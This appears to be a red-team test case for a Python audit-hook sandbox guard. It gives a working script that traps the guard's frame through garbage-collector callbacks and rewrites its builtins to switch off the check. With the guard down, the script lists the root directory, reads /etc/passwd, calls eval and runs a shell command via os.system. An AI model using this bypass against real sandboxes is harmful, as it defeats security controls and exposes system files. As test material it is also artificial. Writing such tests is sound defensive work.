# Technique (red team): gc.set_debug(DEBUG_SAVEALL) + gc.callbacks + gc.set_threshold: a collection inside the guard's hook saves the hook's frame in gc.garbage; its f_builtins is rewritten
# expect: policy.import
# guard: import
import gc, os
gc.set_debug(gc.DEBUG_SAVEALL)
def cb(phase, info):
    if phase == 'start':
        try:
            raise KeyError
        except KeyError as e:
            err = e          # cycle: this frame -> err -> traceback -> this frame
gc.callbacks.append(cb)
p = os.path.dirname(os.__file__) + '/os.py'   # an 'open' the guard allows
for k in range(12):
    gc.set_threshold(gc.get_count()[0] + k)   # make a collection fire inside the hook
    open(p).close()
gc.set_threshold(700)
gc.callbacks.remove(cb)
gc.collect()
hook_frame = None
for o in gc.garbage:
    f = o if type(o).__name__ == 'frame' else None
    while f is not None:
        if 'busy' in f.f_locals and 'refuse' in f.f_locals:
            hook_frame = f
        f = f.f_back
gc.garbage.clear()
gc.set_debug(0)
print('hook frame locals:', sorted(hook_frame.f_locals))
hook_frame.f_builtins['type'] = len      # hook: `if type(event) is not str ...: return`
print(os.listdir('/'))
print(open('/etc/passwd').read()[:120])
print(eval("6*7"))
import shutil
print(shutil.which('sh'))
print('system rc', os.system('id'))
